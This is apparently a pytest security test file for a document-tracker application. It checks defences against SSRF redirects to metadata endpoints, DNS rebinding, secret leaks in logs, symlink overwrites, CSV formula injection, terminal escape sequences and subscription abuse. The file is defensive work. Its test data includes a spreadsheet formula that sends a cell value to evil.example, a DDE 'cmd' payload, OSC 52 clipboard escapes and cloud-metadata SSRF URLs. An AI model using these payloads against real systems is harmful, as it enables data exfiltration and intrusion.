"""The hostile probe of issue 16: each finding, replayed on 127.0.0.1 against the real code (see test_security.py)."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import apprise
import pytest

import alerts
from alerts import netguard
from storage import Archive

try:
    from smtpserver import WebhookReceiver, add_event, free_port, smtp_server
except ImportError:  # tests/ imported as a package
    from tests.smtpserver import WebhookReceiver, add_event, free_port, smtp_server

ROOT = Path(__file__).resolve().parents[1]
ALLOW = alerts.AlertSettings(allow_private_targets=True, http_timeout=5)
STRICT = alerts.AlertSettings(allow_private_targets=False, http_timeout=5)
METADATA_REPLY = b"INTERNAL-IAM-CREDENTIALS-5e1f"
BEARER = "tk_0123456789abcdefSECRET"
HOOK_TOKEN = "3ccdd113474722377935511fc85d3dd4"


class Server:
    """A small HTTP server on 127.0.0.1: records every request; `routes` maps a path prefix to (status, headers, body)."""

    def __init__(self, routes: dict[str, tuple[int, dict[str, str], bytes]] | None = None) -> None:
        self.routes = routes or {}
        self.requests: list[dict[str, Any]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length", "0") or 0)
                body = self.rfile.read(length) if length else b""
                server.requests.append({"method": self.command, "path": self.path,
                                        "headers": dict(self.headers.items()), "body": body})
                for prefix, (status, headers, reply) in server.routes.items():
                    if self.path.startswith(prefix):
                        break
                else:
                    status, headers, reply = 204, {}, b""
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(reply)))
                self.end_headers()
                self.wfile.write(reply)

            do_GET = do_POST = _answer  # noqa: N815 - http.server's hook names

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def url(self, path: str = "/", host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}{path}"

    def __enter__(self) -> Server:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def archive(tmp_path):
    with Archive(tmp_path / "home") as opened:
        yield opened


def _cli(home: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    cli = Path(sys.executable).parent / "stp-tracker"
    command = [str(cli)] if cli.exists() else [sys.executable, "-m", "tracker.cli"]
    return subprocess.run([*command, "--home", str(home), *args], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}, cwd=ROOT)


# -- 1. every outgoing alert connection passes the address check, in any thread; no redirect is followed ----------


def test_apprise_redirect_to_an_internal_address_is_not_followed(archive):
    with Server({"/latest/": (200, {}, METADATA_REPLY)}) as internal, \
            Server({"/": (302, {"Location": internal.url("/latest/meta-data/iam")}, b"")}) as public:
        # Loopback is allowed here (the "public" receiver is on 127.0.0.1): only the redirect is under test.
        alerts.subscribe(archive, ALLOW, f"json://127.0.0.1:{public.port}/hook")
        add_event(archive)
        report = alerts.deliver_pending(archive, ALLOW)
    assert public.requests, "the receiver was never asked"
    assert internal.requests == []  # the redirect was not followed
    [failure] = report.failures
    assert METADATA_REPLY.decode() not in failure.error


def test_webhook_redirect_is_not_followed_even_with_the_allowance(archive):
    with Server({"/": (200, {}, METADATA_REPLY)}) as internal, \
            Server({"/": (307, {"Location": internal.url("/latest/meta-data/")}, b"")}) as public:
        alerts.subscribe(archive, ALLOW, public.url("/hook"))
        add_event(archive)
        report = alerts.deliver_pending(archive, ALLOW)
    assert internal.requests == [] and "redirect" in report.failures[0].error


def test_the_connection_guard_holds_in_apprise_worker_threads():
    """A target that passed the subscribe check and now resolves to loopback (DNS rebinding): apprise sends from
    its own worker thread, and the guard, a context variable, goes with it."""
    with WebhookReceiver() as receiver:
        notifier = apprise.Apprise()
        assert notifier.add(f"json://127.0.0.1:{receiver.port}/hook")
        seen_threads: list[str] = []
        original = netguard._check_endpoint

        def spy(sock, address):  # type: ignore[no-untyped-def]
            seen_threads.append(threading.current_thread().name)
            return original(sock, address)

        netguard._check_endpoint = spy
        try:
            with netguard.guarded_connections(allow_private=False):
                ok = notifier.notify(body="probe", title="probe")
        finally:
            netguard._check_endpoint = original
        assert not ok and receiver.requests == []
        # And with the allowance the same send arrives (the guard is not simply breaking apprise).
        with netguard.guarded_connections(allow_private=True):
            assert notifier.notify(body="probe", title="probe")
        assert len(receiver.requests) == 1


def test_raw_socket_sends_are_checked_where_they_resolve():
    """rsyslog:// resolves its host inside sendto(); a UDP datagram to loopback is refused before it leaves."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(0.3)
    port = listener.getsockname()[1]
    try:
        with netguard.guarded_connections(allow_private=False):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                with pytest.raises(alerts.RefusedTarget, match="loopback"):
                    sender.sendto(b"<13>probe", ("localhost", port))
                with pytest.raises(alerts.RefusedTarget):
                    sender.connect(("127.0.0.1", port))
        with pytest.raises(socket.timeout):
            listener.recvfrom(100)
    finally:
        listener.close()
    with pytest.raises(alerts.AddressError):
        alerts.channel_for("rsyslog://localhost", STRICT).check("rsyslog://localhost")


def test_mailto_smtp_relay_override_is_checked(archive):
    with smtp_server() as relay:
        address = f"mailto://user:pass@mail.example.org?smtp=127.0.0.1&port={relay.port}&to=victim@example.org"
        with pytest.raises(alerts.AddressError, match="127.0.0.1"):
            alerts.subscribe(archive, STRICT, address)
        # Sent directly (a subscription made before this check existed): refused before any connection.
        result = alerts.send_test_alert(STRICT, address)
        assert not result.ok and "127.0.0.1" in result.error
    assert relay.messages == []


@pytest.mark.parametrize("scheme", ["json", "xml", "form"])
def test_plain_http_apprise_posts_need_the_same_allowance_as_a_webhook(archive, scheme):
    with pytest.raises(alerts.AddressError, match=f"plain {scheme}://"):
        alerts.subscribe(archive, STRICT, f"{scheme}://8.8.8.8/hook")
    alerts.channel_for(f"{scheme}s://8.8.8.8/hook", STRICT).check(f"{scheme}s://8.8.8.8/hook")  # TLS: accepted


@pytest.mark.parametrize("url", ["xmpp://user:pass@xmpp.example.org", "syslog://", "dbus://"])
def test_schemes_the_guard_cannot_follow_are_refused(url):
    try:
        channel = alerts.channel_for(url, ALLOW)
    except alerts.AddressError:
        return  # apprise cannot use it here at all
    with pytest.raises(alerts.AddressError, match="refused"):
        channel.check(url)


# -- 2. third-party loggers never below WARNING in our output, never a secret ------------------------------------------


def test_apprise_debug_lines_and_credentials_never_reach_stderr(tmp_path):
    home = tmp_path / "home"
    with Server({"/": (200, {}, b"ok")}) as receiver:
        targets = [f"json://127.0.0.1:{receiver.port}/hook?+Authorization=Bearer%20{BEARER}",
                   f"mmost://127.0.0.1:{receiver.port}/{HOOK_TOKEN}"]
        outputs = []
        for target in targets:
            for verbose in ((), ("--verbose",)):
                result = _cli(home, *verbose, "test-alert", target, env={"STP_TRACKER_ALLOW_PRIVATE_TARGETS": "1"})
                assert result.returncode == 0, result.stderr
                outputs.append(result.stdout + result.stderr)
        assert len(receiver.requests) == 4
    assert any(r["headers"].get("Authorization") == f"Bearer {BEARER}" for r in receiver.requests)
    for output in outputs:
        assert BEARER not in output and HOOK_TOKEN not in output
        assert " DEBUG " not in output and "Payload" not in output


def test_daemon_json_logs_carry_no_apprise_debug_or_secret(tmp_path):
    with WebhookReceiver(fail_first=5) as receiver:
        script = (
            "import alerts\n"
            "from tracker.daemon.logs import configure_logging\n"
            "configure_logging('json', verbose=True)\n"
            "import logging; logging.getLogger('apprise').setLevel(logging.DEBUG)\n"
            f"r = alerts.send_test_alert(alerts.AlertSettings(allow_private_targets=True, http_timeout=5), "
            f"'json://127.0.0.1:{receiver.port}/hook/{HOOK_TOKEN}?+Authorization=Bearer%20{BEARER}')\n"
            "logging.getLogger('stp_tracker.alerts').warning('send failed: %s', r.error)\n"
        )
        result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, cwd=ROOT,
                                env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stderr.splitlines() if line.startswith("{")]
    assert lines, result.stderr
    assert all(line["level"] != "debug" for line in lines)
    assert BEARER not in result.stderr and HOOK_TOKEN not in result.stderr
    assert any("500" in line["message"] for line in lines)  # the failure itself is still told


def test_scrub_secrets():
    from alerts.logsafety import scrub_secrets

    text = scrub_secrets(f"POST https://user:pw@hooks.example.org/hooks/{HOOK_TOKEN}?key=abc headers "
                         f"{{'Authorization': 'Bearer {BEARER}'}} token={BEARER} apikey: abcdef")
    assert "hooks.example.org" in text
    for secret in (HOOK_TOKEN, BEARER, "pw@", "abcdef", "key=abc"):
        assert secret not in text


# -- 3. crawler redirects to non-public addresses the source does not name are refused ---------------------------------


def test_crawler_refuses_a_redirect_to_another_loopback_host(tmp_path):
    from fixtureweb import FixtureWeb
    from pdfgen import make_pdf

    try:
        from test_crawler import crawl, fetches_by_url
    except ImportError:
        from tests.test_crawler import crawl, fetches_by_url

    home = tmp_path / "home"
    secret = make_pdf(["INTERNAL METADATA SECRET"])
    with FixtureWeb() as web, FixtureWeb() as internal:
        web.set("/plans/", '<a href="redir.pdf">Plan</a> <a href="other.pdf">Other</a> <a href="moved.pdf">Moved</a>')
        web.redirect("/plans/redir.pdf", web.url("/latest/meta-data/secret.pdf", host="localhost"), status=302)
        web.redirect("/plans/other.pdf", internal.url("/latest/meta-data/secret.pdf"), status=302)
        web.redirect("/plans/moved.pdf", "/plans/real.pdf")  # within the source: followed as before
        web.set("/plans/real.pdf", make_pdf(["The real plan"]), "application/pdf")
        web.set("/latest/meta-data/secret.pdf", secret, "application/pdf")
        internal.set("/latest/meta-data/secret.pdf", secret, "application/pdf")
        summary = crawl(home, [{"name": "council", "footprint": "QF7", "official": True,
                                "start_urls": [web.url("/plans/")], "max_depth": 1}])
        assert web.requests_for("/latest/meta-data/secret.pdf") == []
        assert internal.requests == []
    fetched = fetches_by_url(home, summary["crawl_id"])
    redir = fetched[web.url("/plans/redir.pdf")]
    assert redir["blob_sha256"] is None and redir["error"].startswith("refused: redirect to http://localhost:")
    assert "loopback" in redir["error"]
    assert fetched[web.url("/plans/other.pdf")]["error"].startswith("refused: redirect")
    moved = fetched[web.url("/plans/moved.pdf")]
    assert moved["status"] == 200 and moved["final_url"] == web.url("/plans/real.pdf")


def test_named_private_hosts_stay_allowed():
    from crawler.guard import named_endpoints
    from crawler.sources import Source

    source = Source(name="s", start_urls=["http://127.0.0.1:8123/plans/"], document_hosts=["localhost"])
    hosts, ports = named_endpoints(source)
    assert hosts == {"127.0.0.1", "localhost"} and ports == {8123}


# -- 10. subscribers, their secrets and the outbox live in subscribers.db, not in the shared archive ------------------


def _archive_bytes(home: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(home.glob("archive.db*")))


def test_archive_db_holds_no_subscriber_after_crawl_subscribe_and_delivery(tmp_path, web):
    from pdfgen import make_pdf

    try:
        from test_crawler import crawl
    except ImportError:
        from tests.test_crawler import crawl

    home = tmp_path / "home"
    web.set("/plans/", '<a href="stp.pdf">STP</a>')
    web.set("/plans/stp.pdf", make_pdf(["Our plan: 180 beds"]), "application/pdf")
    crawl(home, [{"name": "council", "footprint": "QF7", "official": True, "start_urls": [web.url("/plans/")]}])
    with smtp_server() as smtp, WebhookReceiver() as receiver:
        settings = alerts.AlertSettings(allow_private_targets=True, smtp_host="127.0.0.1", smtp_port=smtp.port,
                                        http_timeout=5)
        with Archive(home) as archive:
            hook = alerts.subscribe(archive, settings, receiver.url)
            receiver.secret = hook.secret
            mail = alerts.subscribe(archive, settings, "reader@example.org", keywords=["beds"])
            alerts.confirm(archive, re_token(smtp.messages[0]))
            add_event(archive)
            report = alerts.deliver_pending(archive, settings)
            assert report.ok and report.messages_sent == 2
            unsubscribe_token = mail.subscription.unsubscribe_token
            tables = {r["name"] for r in archive._rows("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert receiver.accepted and receiver.accepted[0]["signature_ok"]
    assert not tables & {"subscriptions", "deliveries"}
    raw = _archive_bytes(home)
    for secret in ("reader@example.org", hook.secret, unsubscribe_token, receiver.url, "secret-path"):
        assert secret.encode() not in raw, secret
    subscribers = (home / "subscribers.db").read_bytes()
    assert b"reader@example.org" in subscribers
    assert (home / "subscribers.db").stat().st_mode & 0o077 == 0  # owner only: it holds secrets


def re_token(message) -> str:
    import re

    try:
        from smtpserver import body_text
    except ImportError:
        from tests.smtpserver import body_text
    return re.search(r"/alerts/confirm/([A-Za-z0-9_-]+)", body_text(message)).group(1)


def test_an_old_archive_has_its_subscribers_moved_out_on_first_open(tmp_path):
    import sqlite_utils

    from storage.schema import MIGRATIONS, _m010_subscribers_apart

    home = tmp_path / "home"
    home.mkdir()
    db = sqlite_utils.Database(home / "archive.db")
    before = MIGRATIONS.index(_m010_subscribers_apart)
    for number, step in enumerate(MIGRATIONS[:before], start=1):
        with db.atomic():
            step(db)
            db.execute(f"PRAGMA user_version = {number}")
    db["subscriptions"].insert({"id": 7, "address": "old@example.org", "channel": "email", "mode": "immediate",
                                "status": "active", "secret": None, "unsubscribe_token": "UNSUB-TOKEN-old-4d2a",
                                "created_at": "2026-01-01T00:00:00+00:00", "event_cursor": 0})
    db["subscriptions"].insert({"id": 8, "address": "https://hooks.example.org/x", "channel": "webhook",
                                "mode": "immediate", "status": "active", "secret": "HOOK-SECRET-old-91c3",
                                "unsubscribe_token": "UNSUB-2", "created_at": "2026-01-01T00:00:00+00:00",
                                "event_cursor": 0})
    db.conn.close()
    with Archive(home) as archive:
        rows = alerts.subscriptions(archive)
        tables = {r["name"] for r in archive._rows("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert [(s.id, s.address) for s in rows] == [(7, "old@example.org"), (8, "https://hooks.example.org/x")]
    assert rows[1].secret == "HOOK-SECRET-old-91c3"
    assert not tables & {"subscriptions", "deliveries"}
    raw = _archive_bytes(home)
    assert b"HOOK-SECRET-old-91c3" not in raw and b"old@example.org" not in raw and b"UNSUB-TOKEN" not in raw
    with Archive(home) as archive:  # opened again: nothing moved twice, nothing lost
        assert [s.id for s in alerts.subscriptions(archive)] == [7, 8]


# -- 9. the signature covers delivery id, event header, timestamp and body; 6to4 and unresolvable names refused --------


def test_a_signed_message_replayed_under_a_new_delivery_id_fails_verification(archive):
    with WebhookReceiver() as receiver:
        result = alerts.subscribe(archive, ALLOW, receiver.url)
        receiver.secret = result.secret
        add_event(archive)
        alerts.deliver_pending(archive, ALLOW)
    [request] = receiver.requests
    headers, body = request["headers"], request["body"]
    assert request["signature_ok"]
    ts, sig = headers["X-STP-Timestamp"], headers["X-STP-Signature"]
    assert alerts.verify(result.secret, ts, body, sig, delivery=headers["X-STP-Delivery"],
                         event=headers["X-STP-Event"])
    assert not alerts.verify(result.secret, ts, body, sig, delivery=headers["X-STP-Delivery"] + "-replayed",
                             event=headers["X-STP-Event"])
    assert not alerts.verify(result.secret, ts, body, sig, delivery=headers["X-STP-Delivery"], event="withdrawn")
    # The README's verification example, run as a receiver would run it.
    import hashlib
    import hmac

    signed = f"{ts}.{headers['X-STP-Delivery']}.{headers['X-STP-Event']}.".encode() + body
    assert "sha256=" + hmac.new(result.secret.encode(), signed, hashlib.sha256).hexdigest() == sig


@pytest.mark.parametrize("url", ["https://[2002:7f00:1::]/hook", "https://[64:ff9b::7f00:1]/hook",
                                 "https://[::ffff:127.0.0.1]/hook", "https://[::127.0.0.1]/hook",
                                 "https://[2002:a9fe:a9fe::]/latest/", "https://no-such-host.invalid/hook",
                                 "jsons://no-such-host.invalid/hook"])
def test_embedded_private_addresses_and_unresolvable_names_are_refused(archive, url):
    with pytest.raises(alerts.AddressError, match="refused"):
        alerts.subscribe(archive, STRICT, url)


# -- 8. exports refuse symbolic links and neutralise formula cells -----------------------------------------------------


def _export_home(tmp_path: Path, title: str) -> Path:
    home = tmp_path / "home"
    with Archive(home) as archive:
        add_event(archive, title=title)
    return home


def test_exports_never_write_through_a_planted_symlink(tmp_path):
    from tracker.research import ExportError, export
    from tracker.research.warc import WarcExportError, export_warc

    home = _export_home(tmp_path, "A plan")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "documents.csv.part").symlink_to(victim)
    with Archive(home) as archive:
        with pytest.raises(ExportError, match="symbolic link"):
            export(archive, out, "csv", datasets=["documents"])
        (out / "documents.csv.part").unlink()
        (out / "documents.csv").symlink_to(victim)
        with pytest.raises(ExportError, match="symbolic link"):
            export(archive, out, "csv", datasets=["documents"])
        (out / "w.warc.gz.part").symlink_to(victim)
        with pytest.raises(WarcExportError, match="symbolic link"):
            export_warc(archive, out / "w.warc.gz")
        (out / "documents.csv").unlink()
        assert export(archive, out, "csv", datasets=["documents"]) == {"documents": 1}  # a clean folder works
    assert victim.read_text() == "precious"


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    import csv

    from tracker.research import export

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    home = _export_home(tmp_path, formula)
    out = tmp_path / "out"
    with Archive(home) as archive:
        export(archive, out, "csv", datasets=["documents"])
        export(archive, out, "json", datasets=["documents"])
    [row] = list(csv.DictReader((out / "documents.csv").open(encoding="utf-8")))
    assert row["title"] == "'" + formula
    assert json.loads((out / "documents.json").read_text())[0]["title"] == formula  # JSON keeps the data as it is
    from tracker.research.export import _cell

    for start in "=+-@":
        assert _cell(f"{start}cmd|' /C calc'!A0").startswith("'")
    assert _cell(-5) == -5 and _cell("plain") == "plain"


# -- 5, 6. control characters in fetched text never reach a terminal, an email or XML ---------------------------------

ESCAPES = "Plan \x1b[2J\x1b[H \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]52;c;ZXZpbA==\x07 \x9b31m end"
TERMINAL_BYTES = ("\x1b", "\x07", "\x9b")


def _dirty_archive(home: Path, title: str) -> dict[str, int]:
    """An archive whose title (and summary) hold `title` as written: cleaned on entry, so put back by hand, as an
    archive written before the cleaning would hold it."""
    try:
        from test_security import _hostile_archive
    except ImportError:
        from tests.test_security import _hostile_archive

    ids = _hostile_archive(home, title=title, url="https://example.org/plan.html")
    with Archive(home) as archive:
        assert archive.document(ids["doc"])["title"] == "Plan [2J[H ]8;;https://evil.example\\click]8;;\\ " \
            "]52;c;ZXZpbA== 31m end" if title == ESCAPES else True  # entry cleaning
        with archive.transaction():
            archive.db.execute("UPDATE documents SET title = ? WHERE id = ?", [title, ids["doc"]])
            archive.db.execute("UPDATE events SET summary = ? WHERE id = ?", [f"Revised: {title}", ids["event"]])
    return ids


def test_terminal_escapes_in_titles_never_print(tmp_path):
    from typer.testing import CliRunner

    from tracker.cli import app as cli_app

    home = tmp_path / "home"
    ids = _dirty_archive(home, ESCAPES)
    runner = CliRunner()
    for args in (["documents"], ["events"], ["history", str(ids["doc"])], ["search", "beds"],
                 ["documents", "--json"], ["events", "--json"], ["search", "beds", "--json"]):
        result = runner.invoke(cli_app, ["--home", str(home), *args], env={"COLUMNS": "400"})
        assert result.exit_code == 0, (args, result.output)
        assert "Plan" in result.output or "beds" in result.output, (args, result.output)
        for byte in TERMINAL_BYTES:
            assert byte not in result.output, (args, repr(result.output))


def test_terminal_escapes_never_reach_an_email(tmp_path):
    home = tmp_path / "home"
    _dirty_archive(home, ESCAPES)
    with smtp_server() as smtp, Archive(home) as archive:
        settings = alerts.AlertSettings(smtp_host="127.0.0.1", smtp_port=smtp.port, allow_private_targets=True)
        alerts.subscribe(archive, settings, "reader@example.org")
        alerts.confirm(archive, re_token(smtp.messages[0]))
        from storage import Outbox

        Outbox(archive).db.execute("UPDATE subscriptions SET event_cursor = 0")
        report = alerts.deliver_pending(archive, settings)
        assert report.ok and report.messages_sent == 1, report
        message = smtp.messages[-1]
    raw = message.as_string()
    for byte in TERMINAL_BYTES:
        assert byte not in raw and byte not in message["Subject"]
    assert "end" in raw


def test_a_non_xml_character_in_a_title_does_not_break_the_feed(tmp_path):
    import feedparser
    from starlette.testclient import TestClient
    from typer.testing import CliRunner

    from tracker.cli import app as cli_app
    from tracker.web import create_app

    home = tmp_path / "home"
    title = "Plan \uffff\ufffe \x00\x01\x0b\x0c \x1b[31m end"  # &#xFFFF; in link text decodes to U+FFFF
    _dirty_archive(home, title)
    result = CliRunner().invoke(cli_app, ["--home", str(home), "feed"])
    assert result.exit_code == 0, result.output
    feed = feedparser.parse(result.stdout_bytes)
    assert feed.bozo == 0 and "end" in feed.entries[0].title
    page = TestClient(create_app(home)).get("/feed.atom")
    assert page.status_code == 200 and feedparser.parse(page.content).bozo == 0


def test_titles_are_cleaned_as_they_enter_the_archive(tmp_path):
    from storage import Event, Fetch

    with Archive(tmp_path / "home") as archive:
        doc = archive.create_document(title="A\x1b[2J\tplan\n\x9b", kind="plan", footprint=None, generation=None,
                                      draft=False, seen_at="2026-01-01T00:00:00+00:00", source="s")
        assert archive.document(doc)["title"] == "A[2J plan"
        archive.update_document(doc, title="B\x07\uffff")
        assert archive.document(doc)["title"] == "B"
        fetch = archive.record_fetch(Fetch(url="https://example.org/a", source="s", status=404,
                                           link_text="Click\x1b]52;c;eA==\x07 here"))
        assert archive.fetch(fetch)["link_text"] == "Click]52;c;eA== here"
        event = Event(kind="revised", document_id=doc, summary="S\x1b[2J", changes={"added": ["x\x9by"]})
        archive.record_event(event)
        [stored] = archive.events(include_all=True)
        assert stored.summary == "S[2J" and stored.changes["added"] == ["xy"]


# -- 7. subscribe abuse: per-address and per-client limits, single-use tokens, no requester text, RFC 8058 --------------


def _web(tmp_path: Path, smtp_port: int, **options: Any):
    from starlette.testclient import TestClient

    from tracker.web import create_app

    home = tmp_path / "home"
    with Archive(home) as archive:
        add_event(archive)
    (home / "config.toml").write_text(f'[alerts]\nsmtp_host = "127.0.0.1"\nsmtp_port = {smtp_port}\n'
                                      'base_url = "https://tracker.example.org"\n', encoding="utf-8")
    return home, TestClient(create_app(home, subscriptions=True, **options))


def _token(client) -> str:
    import re

    return re.search(r'name="csrf" value="([^"]+)"', client.get("/subscribe").text).group(1)


def test_one_address_gets_few_confirmations_however_many_clients_ask(tmp_path):
    with smtp_server() as smtp:
        home, client = _web(tmp_path, smtp.port, rate_limit=100, trusted_proxies=["testclient"])
        answers = []
        for n in range(6):
            answers.append(client.post("/subscribe", data={"email": "victim@example.org", "csrf": _token(client)},
                                       headers={"X-Forwarded-For": f"198.51.100.{n}"}).status_code)
        assert answers == [200, 200, 200, 429, 429, 429]
        assert len(smtp.to("victim@example.org")) == 3


def test_x_forwarded_for_counts_only_from_a_trusted_proxy(tmp_path):
    with smtp_server() as smtp:
        _, direct = _web(tmp_path / "a", smtp.port, rate_limit=2)
        codes = [direct.post("/subscribe", data={"email": f"r{n}@example.org", "csrf": _token(direct)},
                             headers={"X-Forwarded-For": f"198.51.100.{n}"}).status_code for n in range(3)]
        assert codes == [200, 200, 429]  # a forged header does not buy a fresh bucket
        _, proxied = _web(tmp_path / "b", smtp.port, rate_limit=2, trusted_proxies=["testclient"])
        codes = [proxied.post("/subscribe", data={"email": f"p{n}@example.org", "csrf": _token(proxied)},
                              headers={"X-Forwarded-For": f"203.0.113.9, 198.51.100.{n % 2}"}).status_code
                 for n in range(4)]
        assert codes == [200, 200, 200, 200]  # behind the proxy, two clients, two buckets (2 posts each)
        assert proxied.post("/subscribe", data={"email": "p9@example.org", "csrf": _token(proxied)},
                            headers={"X-Forwarded-For": "198.51.100.0"}).status_code == 429


def test_a_form_token_works_once(tmp_path):
    with smtp_server() as smtp:
        _, client = _web(tmp_path, smtp.port, rate_limit=100)
        token = _token(client)
        assert client.post("/subscribe", data={"email": "a@example.org", "csrf": token}).status_code == 200
        again = client.post("/subscribe", data={"email": "b@example.org", "csrf": token})
        assert again.status_code == 403 and "already sent" in again.text
        assert smtp.to("b@example.org") == []


def test_the_confirmation_mail_carries_no_text_the_requester_chose(tmp_path):
    phishing = "https://evil.example/login-to-keep-your-account"
    with smtp_server() as smtp:
        _, client = _web(tmp_path, smtp.port)
        done = client.post("/subscribe", data={"email": "victim@example.org", "csrf": _token(client),
                                               "keywords": f"{phishing}, call 0800 000 000", "footprint": "QF7"})
        assert done.status_code == 200, done.text
        [mail] = smtp.to("victim@example.org")
    raw = mail.as_string()
    assert "evil.example" not in raw and "0800" not in raw
    assert "QF7" in raw and "2 more filters" in raw


def test_rfc8058_one_click_unsubscribe_needs_no_form_token(tmp_path):
    import re

    try:
        from smtpserver import body_text
    except ImportError:
        from tests.smtpserver import body_text
    from starlette.testclient import TestClient

    from tracker.web import create_app

    with smtp_server() as smtp:
        home, client = _web(tmp_path, smtp.port)
        client.post("/subscribe", data={"email": "reader@example.org", "csrf": _token(client)})
        [mail] = smtp.to("reader@example.org")
    assert mail["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    url = mail["List-Unsubscribe"].strip("<>")
    path = url.replace("https://tracker.example.org", "")
    provider = TestClient(create_app(home, subscriptions=True))  # a mail provider: no cookie, no form token
    assert provider.post(path, data={"other": "x"}).status_code == 403  # not a one-click request: CSRF applies
    done = provider.post(path, data={"List-Unsubscribe": "One-Click"})
    assert done.status_code == 200 and "unsubscribed" in done.text
    with Archive(home) as archive:
        assert [s.status for s in alerts.subscriptions(archive)] == ["unsubscribed"]
    assert body_text(mail)  # the confirmation itself was readable
    assert re.search(r"/alerts/unsubscribe/", url)


# -- 4. search and diff bounded in time and concurrent work: 400/503, never 500 --------------------------------------

ALPHABET_OR = " OR ".join(f"{c}*" for c in "abcdefghijklmnopqrstuvwxyz")
NEAR_BOMB = "NEAR(a* b* c* d* e* f* g* h*, 100000)"


@pytest.fixture
def web_archive(tmp_path):
    try:
        from test_web import build_archive
    except ImportError:
        from tests.test_web import build_archive
    return build_archive(tmp_path / "home")


def test_costly_searches_are_refused_with_a_clear_400(web_archive):
    from starlette.testclient import TestClient

    from tracker.web import create_app

    client = TestClient(create_app(web_archive.home), raise_server_exceptions=False)
    for query in (ALPHABET_OR, NEAR_BOMB, "x* y* z* w* v* u*", " ".join(["beds"] * 40)):
        page = client.get("/search", params={"q": query})
        assert page.status_code == 400 and "narrow the search" in page.text, (query, page.status_code)
        api = client.get("/api/search", params={"q": query})
        assert api.status_code == 400 and "at most" in api.json()["error"]
    assert client.get("/search", params={"q": "beds"}).status_code == 200


def test_a_database_error_from_fts5_is_a_400_not_a_500(web_archive):
    """On a few hundred long texts FTS5's snippet() answers that NEAR query with "database disk image is malformed"
    (a DatabaseError, not an OperationalError: measured with 300 texts of 3,000 words); the bounded search maps any
    DatabaseError that is not its own time-out to SearchRefused."""
    import sqlite3

    from storage import SearchRefused, bounded_search

    with Archive(web_archive.home, readonly=True) as archive:
        class Malformed:
            db = archive.db

            def search_filtered(self, query, **filters):
                raise sqlite3.DatabaseError("database disk image is malformed")

        with pytest.raises(SearchRefused, match="plain words"):
            bounded_search(Malformed(), "NEAR(acute beds, 10)")
        assert bounded_search(archive, '"unbalanced') is not None


def test_sqlite_work_stops_at_the_time_limit(web_archive):
    import sqlite3

    from storage import SearchTimeout, bounded_search
    from storage.querybound import time_limit

    with Archive(web_archive.home, readonly=True) as archive:
        with pytest.raises(sqlite3.OperationalError, match="interrupted"):
            with time_limit(archive, 0.05):
                archive.db.execute("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
                                   "SELECT COUNT(*) FROM c").fetchone()
        assert archive.db.execute("SELECT 1").fetchone()[0] == 1  # the handler is gone after the block

        class Slow:  # the archive, with a search as slow as a hostile one on a large archive
            db = archive.db

            def search_filtered(self, query, **filters):
                self.db.execute("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
                                "SELECT COUNT(*) FROM c").fetchone()

        with pytest.raises(SearchTimeout, match="narrow it"):
            bounded_search(Slow(), "beds", seconds=0.05)


def test_a_burst_of_diffs_gets_503_and_the_other_pages_still_answer(web_archive):
    from starlette.testclient import TestClient

    from tracker.web import create_app

    app = create_app(web_archive.home)
    client = TestClient(app, raise_server_exceptions=False)
    web = app.app.state.web
    release = threading.Event()
    pool = web.diffs.pool
    holders = [threading.Thread(target=pool.run, args=(release.wait,), daemon=True) for _ in range(pool.capacity)]
    for holder in holders:
        holder.start()
    try:
        for _ in range(100):
            if pool.inflight >= pool.capacity:
                break
            threading.Event().wait(0.01)
        busy = client.get(f"/diff/{web_archive.v1}/{web_archive.v2}")
        assert busy.status_code == 503 and busy.headers["Retry-After"]
        assert client.get(f"/api/diff/{web_archive.v1}/{web_archive.v2}").status_code == 503
        assert client.get("/").status_code == 200
    finally:
        release.set()
        for holder in holders:
            holder.join(5)
    assert client.get(f"/diff/{web_archive.v1}/{web_archive.v2}").status_code == 200  # and once the burst is over
    searches = web.searches
    assert searches.capacity <= 6 and pool.capacity <= 4  # small pools of their own


def test_every_test_the_security_table_names_here_exists():
    import re

    import test_security  # noqa: F401 - its docstring is the table

    table = sys.modules["test_security"].__doc__
    rows = [line for line in table.splitlines() if "(issue 16)" in line]
    assert len(rows) == 10
    names = set()
    for row in rows:
        cell = row.split("|")[-2]
        names |= set(re.findall(r"(?:test_hostile_probe\.py)?::(test_\w+)", cell))
        assert row.count("|") == 4, row  # three cells: no stray pipe
    missing = sorted(n for n in names if n not in globals())
    assert names and not missing, missing


def test_tokens_never_start_with_a_dash():
    """`stp-tracker confirm TOKEN` from the confirmation email: a token starting with "-" was read as an option
    (exit 2), about one email in 64 (test_alerts_cli failed so once)."""
    from alerts.subscriptions import new_token

